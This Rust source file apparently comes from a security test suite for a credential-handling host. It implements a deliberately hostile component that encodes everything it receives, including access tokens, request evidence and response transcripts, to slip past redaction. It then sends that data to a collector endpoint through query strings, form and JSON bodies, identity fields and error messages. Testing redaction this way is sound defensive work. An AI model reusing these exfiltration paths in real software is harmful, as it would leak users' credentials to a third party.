//! Everything that the component was given, carried out by every way there is.
//!
//! All of it, as the `Debug` form of the call's arguments, so that nothing is forgotten when the
//! contract grows; in ink that the host cannot read ([`crate::uncover`] is for the test), so that a
//! host which strikes credentials out cannot hide that it gave them.

use crate::ink::cover;
use crate::obtain::{request, text};
use crate::{COLLECTOR, Identified, Obtained, Plan, WORDS};
use celadon_provider::wire::{
    Body, Credential, Evidence, Failure, FailureKind, Field, Identity, IdentityStep, Request,
    Response, TokenStep,
};
use celadon_provider::{Value, json};

/// Bytes of one field.
const PIECE: usize = 8_000;
/// Fields of a query: a URL has an end.
const IN_QUERY: usize = 5;

/// Fields `s0`, `s1`, … with what was seen.
fn fields(saw: &str, most: usize) -> Vec<Field> {
    let pieces = saw.as_bytes().chunks(PIECE).take(most).enumerate();
    pieces
        .map(|(index, piece)| text(&format!("s{index}"), &String::from_utf8_lossy(piece)))
        .collect()
}

/// Asks userinfo, carries everything out by the request that `by` makes, and then is honest.
fn carry(evidence: &Evidence, transcript: &[Response], by: fn(&str) -> Request) -> Identified {
    match transcript {
        [] => {
            let userinfo = Request {
                credential: Credential::Bearer("access_token".to_owned()),
                ..request("userinfo", Body::None)
            };
            Some(Ok(IdentityStep::Send(vec![userinfo])))
        }
        [_] => {
            let saw = cover(&(evidence, transcript));
            Some(Ok(IdentityStep::Send(vec![by(&saw)])))
        }
        _ => None,
    }
}

pub(crate) fn by_query(_: &Plan, evidence: &Evidence, transcript: &[Response]) -> Identified {
    carry(evidence, transcript, |saw| Request {
        query: fields(saw, IN_QUERY),
        ..request(COLLECTOR, Body::None)
    })
}

pub(crate) fn by_form(_: &Plan, evidence: &Evidence, transcript: &[Response]) -> Identified {
    carry(evidence, transcript, |saw| {
        request(COLLECTOR, Body::Form(fields(saw, usize::MAX)))
    })
}

pub(crate) fn by_json(_: &Plan, evidence: &Evidence, transcript: &[Response]) -> Identified {
    carry(evidence, transcript, |saw| {
        request(COLLECTOR, Body::Json(fields(saw, usize::MAX)))
    })
}

pub(crate) fn by_document(_: &Plan, evidence: &Evidence, transcript: &[Response]) -> Identified {
    carry(evidence, transcript, |saw| {
        let document = json!({ "s0": saw, "token": "secret:0/access_token" });
        request(COLLECTOR, Body::Document(document.to_string()))
    })
}

pub(crate) fn in_obtain(_: &Plan, transcript: &[Response]) -> Obtained {
    match transcript {
        [_] => {
            let document = json!({ "s0": cover(&transcript) }).to_string();
            let request = request(COLLECTOR, Body::Document(document));
            Some(Ok(TokenStep::Send(vec![request])))
        }
        _ => None,
    }
}

pub(crate) fn by_identity(
    _: &Plan,
    evidence: &Evidence,
    transcript: &[Response],
    mut it: Identity,
) -> Result<IdentityStep, Failure> {
    let saw = format!("{:?}", (evidence, transcript));
    let line: String = saw.chars().take(1_000).collect();
    it.username = Some(line.clone());
    it.name = Some(line.clone());
    it.groups = vec![line];
    let covered: String = cover(&saw).chars().take(60_000).collect();
    it.attributes = json!({ "s0": covered }).to_string();
    Ok(IdentityStep::Done(it))
}

/// Few characters of a failure reach the log, so the best of what was seen comes first.
pub(crate) fn by_failure(
    _: &Plan,
    evidence: &Evidence,
    transcript: &[Response],
    _: Identity,
) -> Result<IdentityStep, Failure> {
    let last = transcript.last().map_or("null", |answer| &answer.body);
    let body: Value = last.parse().unwrap_or_default();
    let best = body["groups"].to_string();
    let all = format!("{:?}", (transcript, evidence));
    Err(Failure {
        kind: FailureKind::AccessDenied,
        code: Some(best.chars().take(200).collect()),
        detail: all
            .chars()
            .take(7_000)
            .fold(format!("{WORDS} {best} "), |mut text, c| {
                text.push(c);
                text
            }),
    })
}
